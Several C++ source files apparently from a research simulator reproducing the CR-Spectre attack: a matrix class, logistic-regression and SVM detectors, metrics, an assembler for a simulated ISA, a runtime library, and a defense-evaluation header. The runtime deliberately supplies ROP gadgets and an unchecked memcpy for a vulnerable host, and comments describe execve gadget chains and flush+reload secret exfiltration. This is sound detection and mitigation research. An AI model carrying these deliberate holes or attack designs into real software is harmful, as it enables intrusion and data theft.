  std::span<const double> row(std::size_t r) const;

  void append_row(std::span<const double> values);

  /// this (m x n) * other (n x p) -> (m x p)
  Matrix multiply(const Matrix& other) const;
  Matrix transposed() const;

  std::span<const double> data() const { return values_; }
  std::span<double> data() { return values_; }

 private:
  std::size_t rows_ = 0;
  std::size_t cols_ = 0;
  std::vector<double> values_;
};

/// Dot product of equally-sized spans.
double dot(std::span<const double> a, std::span<const double> b);

}  // namespace crs::ml
