// Linear classifiers: logistic regression (SGD, L2) and a linear SVM
// trained with the Pegasos-style hinge-loss subgradient method — the
// "LR" and "SVM" detectors of the paper's HID zoo.
#pragma once

#include <cstdint>

#include "ml/classifier.hpp"
#include "support/rng.hpp"

namespace crs::ml {

struct LinearConfig {
  int epochs = 120;
  int partial_epochs = 10;  ///< epochs per partial_fit batch
  double learning_rate = 0.05;
  double l2 = 1e-4;
  std::uint64_t seed = 1;
};

class LogisticRegression final : public Classifier {
 public:
  explicit LogisticRegression(const LinearConfig& config = {});

  void fit(const Matrix& x, const std::vector<int>& y) override;
  void partial_fit(const Matrix& x, const std::vector<int>& y) override;
  double predict_proba(std::span<const double> x) const override;
  std::string name() const override { return "LR"; }

  std::span<const double> weights() const { return weights_; }
  double bias() const { return bias_; }

 private:
  void run_epochs(const Matrix& x, const std::vector<int>& y, int epochs);

  LinearConfig config_;
  std::vector<double> weights_;
  double bias_ = 0.0;
};

class LinearSvm final : public Classifier {
 public:
  explicit LinearSvm(const LinearConfig& config = {});

  void fit(const Matrix& x, const std::vector<int>& y) override;
  void partial_fit(const Matrix& x, const std::vector<int>& y) override;
  /// Margin squashed through a sigmoid so the common interface holds;
  /// classification is sign(margin).
  double predict_proba(std::span<const double> x) const override;
  std::string name() const override { return "SVM"; }

  double margin(std::span<const double> x) const;

 private:
  void run_epochs(const Matrix& x, const std::vector<int>& y, int epochs);

  LinearConfig config_;
  std::vector<double> weights_;
  double bias_ = 0.0;
  std::uint64_t pegasos_t_ = 1;  ///< continues across partial_fit batches
};

}  // namespace crs::ml
