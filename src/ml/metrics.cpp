#include "ml/metrics.hpp"

#include "support/error.hpp"
#include "support/strings.hpp"

namespace crs::ml {

double ConfusionMatrix::accuracy() const {
  const std::size_t n = total();
  return n == 0 ? 0.0 : static_cast<double>(tp + tn) / static_cast<double>(n);
}

double ConfusionMatrix::precision() const {
  const std::size_t d = tp + fp;
  return d == 0 ? 0.0 : static_cast<double>(tp) / static_cast<double>(d);
}

double ConfusionMatrix::recall() const {
  const std::size_t d = tp + fn;
  return d == 0 ? 0.0 : static_cast<double>(tp) / static_cast<double>(d);
}

double ConfusionMatrix::f1() const {
  const double p = precision();
  const double r = recall();
  return p + r == 0.0 ? 0.0 : 2.0 * p * r / (p + r);
}

double ConfusionMatrix::balanced_accuracy() const {
  const std::size_t benign = tn + fp;
  const std::size_t attack = tp + fn;
  if (benign == 0) return recall();
  const double benign_recall =
      static_cast<double>(tn) / static_cast<double>(benign);
  if (attack == 0) return benign_recall;
  return 0.5 * (benign_recall + recall());
}

std::string ConfusionMatrix::describe() const {
  return "tp=" + std::to_string(tp) + " tn=" + std::to_string(tn) +
         " fp=" + std::to_string(fp) + " fn=" + std::to_string(fn) +
         " acc=" + fixed(100.0 * accuracy(), 1) +
         "% bal=" + fixed(100.0 * balanced_accuracy(), 1) +
         "% recall=" + fixed(100.0 * recall(), 1) + "%";
}

ConfusionMatrix confusion(std::span<const int> truth,
                          std::span<const int> predicted) {
  CRS_ENSURE(truth.size() == predicted.size(), "confusion size mismatch");
  ConfusionMatrix out;
  for (std::size_t i = 0; i < truth.size(); ++i) {
    if (truth[i] == 1) {
      (predicted[i] == 1 ? out.tp : out.fn) += 1;
    } else {
      (predicted[i] == 1 ? out.fp : out.tn) += 1;
    }
  }
  return out;
}

}  // namespace crs::ml
