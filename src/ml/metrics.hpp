// Classification metrics used by the HID evaluation.
#pragma once

#include <cstddef>
#include <span>
#include <string>
#include <vector>

namespace crs::ml {

struct ConfusionMatrix {
  std::size_t tp = 0;  ///< attack predicted attack
  std::size_t tn = 0;  ///< benign predicted benign
  std::size_t fp = 0;  ///< benign predicted attack
  std::size_t fn = 0;  ///< attack predicted benign

  std::size_t total() const { return tp + tn + fp + fn; }
  double accuracy() const;
  double precision() const;
  double recall() const;  ///< detection rate on the attack class
  double f1() const;
  /// Mean of per-class recalls; robust to imbalance (used for Fig. 4).
  double balanced_accuracy() const;
  std::string describe() const;
};

ConfusionMatrix confusion(std::span<const int> truth,
                          std::span<const int> predicted);

}  // namespace crs::ml
