#include "casm/assembler.hpp"

#include <array>
#include <map>
#include <optional>
#include <vector>

#include "isa/isa.hpp"
#include "support/error.hpp"
#include "support/strings.hpp"

namespace crs::casm {

namespace {

using isa::Instruction;
using isa::Opcode;

constexpr std::uint64_t kPage = sim::Memory::kPageSize;

enum SectionId : int { kText = 0, kRodata = 1, kData = 2, kSectionCount = 3 };

[[noreturn]] void fail(int line_no, const std::string& msg) {
  throw Error("asm line " + std::to_string(line_no) + ": " + msg);
}

/// An operand expression: `[label] [- label] [± ints...]`. A single
/// positive label yields an absolute address (relocatable); a label pair
/// `a - b` yields their distance (position-independent, no relocation).
struct Expr {
  bool has_label = false;      // positive label present
  std::string label;
  bool has_neg_label = false;  // subtracted label present
  std::string neg_label;
  std::int64_t addend = 0;

  /// Needs a relocation record when rebased.
  bool relocatable() const { return has_label && !has_neg_label; }
};

struct Statement {
  enum class Kind { kInstr, kByte, kWord, kRaw };
  Kind kind = Kind::kInstr;
  int line_no = 0;
  SectionId section = kText;
  std::uint64_t offset = 0;  // within section
  std::uint64_t size = 0;
  std::string mnemonic;
  std::vector<std::string> operands;   // kInstr
  std::vector<std::string> data_items; // kByte / kWord expressions
  std::vector<std::uint8_t> raw;       // kRaw payload (.ascii/.space/.align)
};

/// Strips a trailing comment that is not inside a string literal.
std::string strip_comment(std::string_view line) {
  std::string out;
  bool in_string = false;
  for (std::size_t i = 0; i < line.size(); ++i) {
    const char c = line[i];
    if (c == '"' && (i == 0 || line[i - 1] != '\\')) in_string = !in_string;
    if (!in_string && (c == ';' || c == '#')) break;
    out += c;
  }
  return out;
}

bool is_ident_char(char c) {
  return std::isalnum(static_cast<unsigned char>(c)) || c == '_' || c == '.';
}

bool is_ident(std::string_view s) {
  if (s.empty()) return false;
  if (std::isdigit(static_cast<unsigned char>(s[0]))) return false;
  for (char c : s)
    if (!is_ident_char(c)) return false;
  return true;
}

/// Splits operands on top-level commas (no commas occur inside brackets).
std::vector<std::string> split_operands(std::string_view s) {
  std::vector<std::string> out;
  for (const auto& part : split(s, ',')) {
    const auto t = trim(part);
    if (!t.empty()) out.emplace_back(t);
  }
  return out;
}

std::vector<std::uint8_t> parse_string_literal(std::string_view s,
                                               int line_no) {
  s = trim(s);
  if (s.size() < 2 || s.front() != '"' || s.back() != '"')
    fail(line_no, "expected a quoted string");
  s = s.substr(1, s.size() - 2);
  std::vector<std::uint8_t> out;
  for (std::size_t i = 0; i < s.size(); ++i) {
    char c = s[i];
    if (c == '\\' && i + 1 < s.size()) {
      ++i;
      switch (s[i]) {
        case 'n': c = '\n'; break;
        case 't': c = '\t'; break;
        case '0': c = '\0'; break;
        case '\\': c = '\\'; break;
        case '"': c = '"'; break;
        default: fail(line_no, std::string("unknown escape \\") + s[i]);
      }
    }
    out.push_back(static_cast<std::uint8_t>(c));
  }
  return out;
}

class AssemblerImpl {
 public:
  AssemblerImpl(std::string_view source, const AssembleOptions& options)
      : source_(source), options_(options), link_base_(options.link_base) {}

  sim::Program run() {
    pass1();
    layout();
    pass2();
    return finish();
  }

 private:
  // ---- pass 1: labels, sizes --------------------------------------------
  void pass1() {
    int line_no = 0;
    std::size_t pos = 0;
    while (pos <= source_.size()) {
      const std::size_t eol = source_.find('\n', pos);
      std::string_view raw_line =
          eol == std::string_view::npos
              ? std::string_view(source_).substr(pos)
              : std::string_view(source_).substr(pos, eol - pos);
      pos = eol == std::string_view::npos ? source_.size() + 1 : eol + 1;
      ++line_no;

      std::string line = strip_comment(raw_line);
      std::string_view body = trim(line);
      if (body.empty()) continue;

      // Leading labels ("name:"), possibly several, possibly with a
      // statement on the same line.
      for (;;) {
        std::size_t i = 0;
        while (i < body.size() && is_ident_char(body[i])) ++i;
        if (i == 0 || i >= body.size() || body[i] != ':') break;
        const std::string label(body.substr(0, i));
        if (!is_ident(label)) fail(line_no, "bad label '" + label + "'");
        if (labels_.count(label)) fail(line_no, "duplicate label '" + label + "'");
        labels_[label] = {section_, section_size_[section_]};
        body = trim(body.substr(i + 1));
        if (body.empty()) break;
      }
      if (body.empty()) continue;

      if (body.front() == '.') {
        directive(std::string(body), line_no);
      } else {
        instruction_stmt(std::string(body), line_no);
      }
    }
  }

  void directive(const std::string& body, int line_no) {
    const std::size_t sp = body.find_first_of(" \t");
    const std::string name =
        to_lower(sp == std::string::npos ? body : body.substr(0, sp));
    const std::string rest(
        trim(sp == std::string::npos ? std::string_view() : std::string_view(body).substr(sp)));

    if (name == ".org") {
      std::int64_t v = 0;
      if (!parse_int(rest, v) || v < 0) fail(line_no, ".org needs an address");
      if (emitted_) fail(line_no, ".org must precede any emission");
      link_base_ = static_cast<std::uint64_t>(v);
    } else if (name == ".entry") {
      if (!is_ident(rest)) fail(line_no, ".entry needs a label");
      entry_label_ = rest;
    } else if (name == ".text") {
      section_ = kText;
    } else if (name == ".rodata") {
      section_ = kRodata;
    } else if (name == ".data") {
      section_ = kData;
    } else if (name == ".equ") {
      const auto parts = split_operands(rest);
      if (parts.size() != 2 || !is_ident(parts[0]))
        fail(line_no, ".equ NAME, value");
      std::int64_t v = 0;
      if (!parse_int(parts[1], v)) fail(line_no, ".equ value must be numeric");
      equs_[parts[0]] = v;
    } else if (name == ".byte" || name == ".word") {
      Statement st;
      st.kind = name == ".byte" ? Statement::Kind::kByte : Statement::Kind::kWord;
      st.line_no = line_no;
      st.section = section_;
      st.offset = section_size_[section_];
      st.data_items = split_operands(rest);
      if (st.data_items.empty()) fail(line_no, name + " needs values");
      st.size = st.data_items.size() * (name == ".byte" ? 1 : 8);
      emit(st);
    } else if (name == ".ascii" || name == ".asciz") {
      Statement st;
      st.kind = Statement::Kind::kRaw;
      st.line_no = line_no;
      st.section = section_;
      st.offset = section_size_[section_];
      st.raw = parse_string_literal(rest, line_no);
      if (name == ".asciz") st.raw.push_back(0);
      st.size = st.raw.size();
      emit(st);
    } else if (name == ".space") {
      const auto parts = split_operands(rest);
      std::int64_t n = 0, fill = 0;
      if (parts.empty() || !parse_int(parts[0], n) || n < 0)
        fail(line_no, ".space needs a size");
      if (parts.size() > 1 && !parse_int(parts[1], fill))
        fail(line_no, ".space fill must be numeric");
      if (parts.size() > 2) fail(line_no, ".space takes at most two arguments");
      Statement st;
      st.kind = Statement::Kind::kRaw;
      st.line_no = line_no;
      st.section = section_;
      st.offset = section_size_[section_];
      st.raw.assign(static_cast<std::size_t>(n),
                    static_cast<std::uint8_t>(fill));
      st.size = st.raw.size();
      emit(st);
    } else if (name == ".align") {
      std::int64_t a = 0;
      if (!parse_int(rest, a) || a <= 0 || (a & (a - 1)) != 0)
        fail(line_no, ".align needs a power-of-two argument");
      max_align_ = std::max<std::uint64_t>(max_align_,
                                           static_cast<std::uint64_t>(a));
      const std::uint64_t cur = section_size_[section_];
      const std::uint64_t pad =
          (static_cast<std::uint64_t>(a) - cur % static_cast<std::uint64_t>(a)) %
          static_cast<std::uint64_t>(a);
      if (pad > 0) {
        Statement st;
        st.kind = Statement::Kind::kRaw;
        st.line_no = line_no;
        st.section = section_;
        st.offset = cur;
        st.raw.assign(pad, 0);
        st.size = pad;
        emit(st);
      }
    } else {
      fail(line_no, "unknown directive '" + name + "'");
    }
  }

  void instruction_stmt(const std::string& body, int line_no) {
    const std::size_t sp = body.find_first_of(" \t");
    Statement st;
    st.kind = Statement::Kind::kInstr;
    st.line_no = line_no;
    st.section = section_;
    st.offset = section_size_[section_];
    st.mnemonic =
        to_lower(sp == std::string::npos ? body : body.substr(0, sp));
    if (sp != std::string::npos)
      st.operands = split_operands(std::string_view(body).substr(sp));
    st.size = isa::kInstructionSize;
    if (st.section != kText)
      fail(line_no, "instructions are only allowed in .text");
    emit(st);
  }

  void emit(Statement st) {
    emitted_ = true;
    section_size_[st.section] += st.size;
    statements_.push_back(std::move(st));
  }

  // ---- layout -------------------------------------------------------------
  // Section bases are aligned to the largest `.align` the program used (at
  // least a page), so in-section alignment directives yield genuinely
  // aligned *addresses* — the prime+probe eviction sets depend on cache-set
  // congruence across 32 KiB boundaries.
  std::uint64_t align_section(std::uint64_t v) const {
    const std::uint64_t a = std::max(kPage, max_align_);
    return (v + a - 1) / a * a;
  }

  void layout() {
    section_base_[kText] = link_base_;
    section_base_[kRodata] = align_section(link_base_ + section_size_[kText]);
    section_base_[kData] =
        align_section(section_base_[kRodata] + section_size_[kRodata]);
    for (int s = 0; s < kSectionCount; ++s) {
      buffers_[s].assign(section_size_[s], 0);
    }
  }

  std::uint64_t label_address(const std::string& label, int line_no) const {
    const auto it = labels_.find(label);
    if (it == labels_.end()) fail(line_no, "unknown label '" + label + "'");
    return section_base_[it->second.first] + it->second.second;
  }

  // ---- expressions ----------------------------------------------------------
  Expr parse_expr(std::string_view s, int line_no) const {
    Expr e;
    s = trim(s);
    if (s.empty()) fail(line_no, "empty expression");
    int sign = 1;
    std::size_t i = 0;
    bool first = true;
    while (i < s.size()) {
      while (i < s.size() && std::isspace(static_cast<unsigned char>(s[i]))) ++i;
      if (!first) {
        if (i >= s.size() || (s[i] != '+' && s[i] != '-'))
          fail(line_no, "expected + or - in expression");
        sign = s[i] == '+' ? 1 : -1;
        ++i;
        while (i < s.size() && std::isspace(static_cast<unsigned char>(s[i]))) ++i;
      } else if (i < s.size() && (s[i] == '+' || s[i] == '-')) {
        sign = s[i] == '+' ? 1 : -1;
        ++i;
      }
      std::size_t start = i;
      while (i < s.size() && is_ident_char(s[i])) ++i;
      if (i == start) fail(line_no, "bad expression term");
      const std::string term(s.substr(start, i - start));
      std::int64_t value = 0;
      if (parse_int(term, value)) {
        e.addend += sign * value;
      } else if (const auto eq = equs_.find(term); eq != equs_.end()) {
        e.addend += sign * eq->second;
      } else if (is_ident(term)) {
        if (sign > 0) {
          if (e.has_label) fail(line_no, "at most one positive label");
          e.has_label = true;
          e.label = term;
        } else {
          if (e.has_neg_label) fail(line_no, "at most one subtracted label");
          e.has_neg_label = true;
          e.neg_label = term;
        }
      } else {
        fail(line_no, "bad expression term '" + term + "'");
      }
      first = false;
    }
    return e;
  }

  /// Absolute value of an expression (labels resolved).
  std::uint64_t eval(const Expr& e, int line_no) const {
    if (e.has_neg_label && !e.has_label)
      fail(line_no, "a subtracted label needs a positive label (a - b)");
    std::int64_t v = e.addend;
    if (e.has_label)
      v += static_cast<std::int64_t>(label_address(e.label, line_no));
    if (e.has_neg_label)
      v -= static_cast<std::int64_t>(label_address(e.neg_label, line_no));
    return static_cast<std::uint64_t>(v);
  }

  // ---- operand parsing ----------------------------------------------------
  int parse_reg(std::string_view s, int line_no) const {
    const auto r = isa::register_from_name(trim(s));
    if (!r.has_value()) fail(line_no, "expected a register, got '" + std::string(s) + "'");
    return *r;
  }

  struct MemOperand {
    int reg = 0;
    Expr disp;
  };

  MemOperand parse_mem(std::string_view s, int line_no) const {
    s = trim(s);
    if (s.size() < 3 || s.front() != '[' || s.back() != ']')
      fail(line_no, "expected a memory operand [reg+disp]");
    s = s.substr(1, s.size() - 2);
    // Split at the first top-level + or - after the register name.
    std::size_t i = 0;
    while (i < s.size() && is_ident_char(s[i])) ++i;
    MemOperand m;
    m.reg = parse_reg(s.substr(0, i), line_no);
    const std::string_view rest = trim(s.substr(i));
    if (!rest.empty()) m.disp = parse_expr(rest, line_no);
    return m;
  }

  // ---- pass 2: encoding -----------------------------------------------------
  void pass2() {
    for (const Statement& st : statements_) {
      switch (st.kind) {
        case Statement::Kind::kRaw:
          std::copy(st.raw.begin(), st.raw.end(),
                    buffers_[st.section].begin() +
                        static_cast<std::ptrdiff_t>(st.offset));
          break;
        case Statement::Kind::kByte: {
          std::uint64_t off = st.offset;
          for (const auto& item : st.data_items) {
            const Expr e = parse_expr(item, st.line_no);
            if (e.has_label) fail(st.line_no, ".byte cannot hold addresses");
            buffers_[st.section][off++] = static_cast<std::uint8_t>(e.addend);
          }
          break;
        }
        case Statement::Kind::kWord: {
          std::uint64_t off = st.offset;
          for (const auto& item : st.data_items) {
            const Expr e = parse_expr(item, st.line_no);
            const std::uint64_t v = eval(e, st.line_no);
            for (int i = 0; i < 8; ++i)
              buffers_[st.section][off + static_cast<std::uint64_t>(i)] =
                  static_cast<std::uint8_t>(v >> (8 * i));
            if (e.relocatable()) {
              relocations_.push_back(
                  {static_cast<std::size_t>(st.section), off,
                   sim::RelocKind::kWord64});
            }
            off += 8;
          }
          break;
        }
        case Statement::Kind::kInstr:
          encode_instruction(st);
          break;
      }
    }
  }

  void require_operands(const Statement& st, std::size_t n) const {
    if (st.operands.size() != n)
      fail(st.line_no, st.mnemonic + " expects " + std::to_string(n) +
                           " operand(s), got " +
                           std::to_string(st.operands.size()));
  }

  void encode_instruction(const Statement& st) {
    const auto opc = isa::opcode_from_mnemonic(st.mnemonic);
    if (!opc.has_value())
      fail(st.line_no, "unknown mnemonic '" + st.mnemonic + "'");

    Instruction instr;
    instr.op = *opc;
    bool imm_is_label = false;

    auto set_imm = [&](const Expr& e) {
      const std::uint64_t v = eval(e, st.line_no);
      if (!e.has_label && !e.has_neg_label) {
        if (e.addend < INT32_MIN || e.addend > static_cast<std::int64_t>(UINT32_MAX))
          fail(st.line_no, "immediate out of 32-bit range");
      }
      instr.imm = static_cast<std::int32_t>(static_cast<std::uint32_t>(v));
      imm_is_label = e.relocatable();
    };

    using isa::OpClass;
    switch (isa::op_class(*opc)) {
      case OpClass::kAlu:
        if (*opc == Opcode::kMovImm) {
          require_operands(st, 2);
          instr.rd = static_cast<std::uint8_t>(parse_reg(st.operands[0], st.line_no));
          set_imm(parse_expr(st.operands[1], st.line_no));
        } else if (*opc == Opcode::kMov) {
          require_operands(st, 2);
          instr.rd = static_cast<std::uint8_t>(parse_reg(st.operands[0], st.line_no));
          instr.rs1 = static_cast<std::uint8_t>(parse_reg(st.operands[1], st.line_no));
        } else if (isa::reads_rs2(*opc)) {
          require_operands(st, 3);
          instr.rd = static_cast<std::uint8_t>(parse_reg(st.operands[0], st.line_no));
          instr.rs1 = static_cast<std::uint8_t>(parse_reg(st.operands[1], st.line_no));
          instr.rs2 = static_cast<std::uint8_t>(parse_reg(st.operands[2], st.line_no));
        } else {  // reg-imm ALU
          require_operands(st, 3);
          instr.rd = static_cast<std::uint8_t>(parse_reg(st.operands[0], st.line_no));
          instr.rs1 = static_cast<std::uint8_t>(parse_reg(st.operands[1], st.line_no));
          set_imm(parse_expr(st.operands[2], st.line_no));
        }
        break;
      case OpClass::kLoad: {
        require_operands(st, 2);
        instr.rd = static_cast<std::uint8_t>(parse_reg(st.operands[0], st.line_no));
        const MemOperand m = parse_mem(st.operands[1], st.line_no);
        instr.rs1 = static_cast<std::uint8_t>(m.reg);
        set_imm(m.disp);
        break;
      }
      case OpClass::kStore: {
        require_operands(st, 2);
        const MemOperand m = parse_mem(st.operands[0], st.line_no);
        instr.rs1 = static_cast<std::uint8_t>(m.reg);
        instr.rs2 = static_cast<std::uint8_t>(parse_reg(st.operands[1], st.line_no));
        set_imm(m.disp);
        break;
      }
      case OpClass::kCondBranch:
        require_operands(st, 2);
        instr.rs1 = static_cast<std::uint8_t>(parse_reg(st.operands[0], st.line_no));
        set_imm(parse_expr(st.operands[1], st.line_no));
        break;
      case OpClass::kJump:
      case OpClass::kCall:
        require_operands(st, 1);
        set_imm(parse_expr(st.operands[0], st.line_no));
        break;
      case OpClass::kIndirectJump:
      case OpClass::kIndirectCall:
      case OpClass::kPush:
        require_operands(st, 1);
        instr.rs1 = static_cast<std::uint8_t>(parse_reg(st.operands[0], st.line_no));
        break;
      case OpClass::kPop:
      case OpClass::kRdCycle:
        require_operands(st, 1);
        instr.rd = static_cast<std::uint8_t>(parse_reg(st.operands[0], st.line_no));
        break;
      case OpClass::kFlush: {
        require_operands(st, 1);
        const MemOperand m = parse_mem(st.operands[0], st.line_no);
        instr.rs1 = static_cast<std::uint8_t>(m.reg);
        set_imm(m.disp);
        break;
      }
      default:  // nop, halt, ret, mfence, syscall
        require_operands(st, 0);
        break;
    }

    const auto bytes = isa::encode(instr);
    std::copy(bytes.begin(), bytes.end(),
              buffers_[st.section].begin() +
                  static_cast<std::ptrdiff_t>(st.offset));
    if (imm_is_label) {
      relocations_.push_back({static_cast<std::size_t>(st.section),
                              st.offset + 4, sim::RelocKind::kImm32});
    }
  }

  // ---- assembly → Program ---------------------------------------------------
  sim::Program finish() {
    sim::Program program;
    program.name = options_.name;
    program.link_base = link_base_;

    static constexpr std::string_view kNames[] = {".text", ".rodata", ".data"};
    static constexpr sim::Perm kPerms[] = {sim::kPermRX, sim::kPermRead,
                                           sim::kPermRW};
    std::array<int, kSectionCount> seg_index{-1, -1, -1};
    for (int s = 0; s < kSectionCount; ++s) {
      if (buffers_[s].empty()) continue;
      sim::Segment seg;
      seg.name = std::string(kNames[s]);
      seg.addr = section_base_[s];
      seg.bytes = std::move(buffers_[s]);
      seg.perm = kPerms[s];
      seg_index[s] = static_cast<int>(program.segments.size());
      program.segments.push_back(std::move(seg));
    }
    for (const auto& rel : relocations_) {
      const int idx = seg_index[rel.segment];
      CRS_ENSURE(idx >= 0, "relocation in empty section");
      program.relocations.push_back(
          {static_cast<std::size_t>(idx), rel.offset, rel.kind});
    }
    for (const auto& [name, loc] : labels_) {
      program.symbols[name] = section_base_[loc.first] + loc.second;
    }

    if (!entry_label_.empty()) {
      program.entry = label_address(entry_label_, 0);
    } else if (labels_.count("_start")) {
      program.entry = label_address("_start", 0);
    } else {
      program.entry = link_base_;
    }
    return program;
  }

  std::string_view source_;
  AssembleOptions options_;
  std::uint64_t link_base_ = 0;
  std::uint64_t max_align_ = 0;
  std::string entry_label_;
  SectionId section_ = kText;
  bool emitted_ = false;
  std::array<std::uint64_t, kSectionCount> section_size_{};
  std::array<std::uint64_t, kSectionCount> section_base_{};
  std::array<std::vector<std::uint8_t>, kSectionCount> buffers_;
  std::vector<Statement> statements_;
  std::map<std::string, std::pair<SectionId, std::uint64_t>> labels_;
  std::map<std::string, std::int64_t> equs_;
  std::vector<sim::Relocation> relocations_;
};

}  // namespace

sim::Program assemble(std::string_view source, const AssembleOptions& options) {
  AssemblerImpl impl(source, options);
  sim::Program program = impl.run();
  program.name = options.name;
  return program;
}

std::string disassemble_text(const sim::Program& program) {
  std::string out;
  for (const auto& seg : program.segments) {
    if (seg.name != ".text") continue;
    for (std::size_t off = 0; off + isa::kInstructionSize <= seg.bytes.size();
         off += isa::kInstructionSize) {
      const auto instr = isa::decode(
          std::span<const std::uint8_t>(seg.bytes).subspan(off, isa::kInstructionSize));
      out += hex(seg.addr + off);
      out += ":  ";
      out += instr.has_value() ? isa::disassemble(*instr) : std::string("<bad>");
      out += '\n';
    }
  }
  return out;
}

}  // namespace crs::casm
