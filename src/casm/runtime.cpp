#include "casm/runtime.hpp"

namespace crs::casm {

std::string runtime_library() {
  return R"ASM(
; ======================= crs runtime library =======================
.text
; Calling convention: args in r1..r3, result in r0, r4..r7 scratch.

; memcpy(r1=dst, r2=src, r3=len) — byte copy, no bounds checking.
; This is the primitive the vulnerable host uses; the overflow is the
; caller's fault, exactly as with C's memcpy/strcpy.
memcpy:
    beqz r3, memcpy_done
memcpy_loop:
    loadb r4, [r2]
    storeb [r1], r4
    addi r1, r1, 1
    addi r2, r2, 1
    addi r3, r3, -1
    bnez r3, memcpy_loop
memcpy_done:
    ret

; memset(r1=dst, r2=byte, r3=len)
memset:
    beqz r3, memset_done
memset_loop:
    storeb [r1], r2
    addi r1, r1, 1
    addi r3, r3, -1
    bnez r3, memset_loop
memset_done:
    ret

; strlen(r1=str) -> r0
strlen:
    movi r0, 0
strlen_loop:
    loadb r4, [r1]
    beqz r4, strlen_done
    addi r1, r1, 1
    addi r0, r0, 1
    jmp strlen_loop
strlen_done:
    ret

; print(r1=addr, r2=len): SYS_WRITE to fd 1.
print:
    mov r3, r2
    mov r2, r1
    movi r1, 1
    movi r0, 1
    syscall
    ret

; exit_(r1=code): SYS_EXIT. Does not return.
exit_:
    movi r0, 0
    syscall
    ret

; getrandom(r1=addr, r2=len)
getrandom:
    movi r0, 3
    syscall
    ret

; ---- context-restore helpers -----------------------------------------
; Modelled on libc's register-restore tails (setcontext/__libc_csu_*):
; each ends in `pop rN; ret`, the classic ROP gadget shape.
restore_r0:
    pop r0
    ret
restore_r1:
    pop r1
    ret
restore_r2:
    pop r2
    ret
restore_r3:
    pop r3
    ret

; syscall_fn(r0=number, r1..r3=args): the libc syscall() wrapper.
; Its `syscall; ret` tail is the chain's execve gadget.
syscall_fn:
    syscall
    ret

; ---- stack canary helpers --------------------------------------------
; canary_check(r4=stored canary copy): compares against __canary and
; aborts the process on mismatch. Programs that opt in place a `__canary`
; word in .data, copy it into the frame on entry and call canary_check
; before returning.
canary_check:
    movi r5, __canary
    load r5, [r5]
    cmpeq r5, r5, r4
    beqz r5, canary_fail
    ret
canary_fail:
    movi r0, 4          ; SYS_ABORT
    syscall
    ret

; The per-process canary value. The kernel fills this word with a random
; value when it maps the image (it looks for the `__canary` symbol).
.data
.align 8
__canary:
    .word 0
.text
; ====================== end runtime library ========================
)ASM";
}

}  // namespace crs::casm
