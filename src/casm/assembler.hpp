// Two-pass assembler for the simulated ISA.
//
// Programs (workload hosts, the CR-Spectre attack binary, perturbation
// variants) are written as assembly text and assembled into relocatable
// sim::Program images. Supporting a textual surface keeps the generated
// attack variants inspectable — the perturbation engine emits assembly, and
// tests can disassemble what it produced.
//
// Syntax (one statement per line; `;` or `#` starts a comment):
//
//   .org  0x10000          link base (must precede any emission)
//   .entry main            entry label (default: `_start`, else text start)
//   .text / .rodata / .data   section switch (RX / R / RW pages)
//   .byte  1, 2, 0x1f      bytes
//   .word  1, label, label+8   64-bit words; labels create relocations
//   .ascii "text"          raw bytes (supports \n \t \0 \\ \")
//   .asciz "text"          ...plus a terminating NUL
//   .space 128 [, fill]    zero (or `fill`)-initialised bytes
//   .align 64              pad section to a boundary
//   .equ   NAME, 42        numeric constant usable wherever an int is
//
//   label:                 (may share a line with an instruction)
//   add   r1, r2, r3
//   movi  r1, label        address immediate (relocated)
//   load  r1, [r2+8]       memory operands: [reg], [reg+int], [reg+label]
//   store [r2+8], r1
//   beqz  r1, label
//
// Section layout: .text at the link base, then .rodata, then .data, each
// page-aligned. All label immediates are recorded as relocations so the
// kernel can rebase the image under ASLR.
#pragma once

#include <string>
#include <string_view>

#include "sim/program.hpp"

namespace crs::casm {

struct AssembleOptions {
  std::string name = "program";
  std::uint64_t link_base = 0x10000;
};

/// Assembles `source`; throws crs::Error with a line number on any syntax
/// or resolution error.
sim::Program assemble(std::string_view source,
                      const AssembleOptions& options = {});

/// Disassembles the .text segment (debugging aid; one instruction per line
/// prefixed with its link-time address).
std::string disassemble_text(const sim::Program& program);

}  // namespace crs::casm
