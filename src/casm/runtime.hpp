// The simulated "libc": helper routines appended to every program.
//
// Besides the obvious utility (memcpy/memset/strlen/print/exit), the
// library is the ROP gadget donor. The paper notes that "a binary compiled
// using GCC has various other libraries linked with it, thus providing more
// gadgets than available only with the host" (§II-C) — register-restore
// tails and the syscall wrapper below play the role of those libc
// epilogues. They are genuine, reachable functions; the gadget scanner
// merely discovers that their tails (`pop rX; ret`, `syscall; ret`) can be
// chained.
#pragma once

#include <string>

namespace crs::casm {

/// Assembly text of the runtime library (a `.text` fragment). Append to a
/// program's source before assembling. Symbols: memcpy, memset, strlen,
/// print, exit_, getrandom, restore_r0..restore_r3, syscall_fn, and the
/// canary helpers canary_check / canary_fail (used with a `__canary` word).
std::string runtime_library();

}  // namespace crs::casm
