// The attack-vs-defense evaluation matrix.
//
// Sweeps {plain Spectre variants, CR-Spectre} × {mitigation presets} and
// reports, per cell: leak-success rate (did flush+reload exfiltrate the
// golden secret), HID detection rate over the attack-active windows, how
// much mitigation machinery actually engaged, and — per preset — the IPC
// overhead the defense costs a clean host. This is the paper's evaluation
// turned defense-side: the `none` column must reproduce CR-Spectre's
// leak-and-evade result, and at least one fence-style preset must drive the
// plain Spectre leak rate to zero.
//
// Determinism: every cell attempt derives its seed from (base seed, flat
// item index) and cells are collected by index, so the matrix is
// byte-identical for any CRS_THREADS value.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "core/scenario.hpp"
#include "hid/detector.hpp"
#include "mitigate/config.hpp"

namespace crs::core {

/// One attack row of the matrix.
struct AttackSpec {
  std::string name;      ///< e.g. "spectre-pht", "cr-spectre"
  ScenarioConfig scenario;
};

struct DefenseMatrixConfig {
  /// Attempts per (attack, preset) cell; leak/detection rates average them.
  int attempts = 4;
  std::uint64_t seed = 23;
  /// Host work scale for the CR-Spectre row and the overhead probes.
  std::uint64_t host_scale = 8000;
  std::string secret = "CRSPECTRE-SECRET";
  /// Presets to sweep; empty = every named preset in display order.
  std::vector<std::string> presets;
  /// Training-corpus size per class for the shared (unmitigated) detector.
  std::size_t corpus_windows = 160;
  /// Repeats for the per-preset IPC-overhead probe.
  int overhead_repeats = 2;
  /// Quick mode: fewer attempts/windows, for the CI smoke job.
  bool quick = false;

  /// Effective values after the quick-mode clamp.
  int effective_attempts() const { return quick ? 2 : attempts; }
  std::size_t effective_corpus_windows() const {
    return quick ? 60 : corpus_windows;
  }
  int effective_overhead_repeats() const { return quick ? 1 : overhead_repeats; }
};

/// One (attack, preset) cell, averaged over the configured attempts.
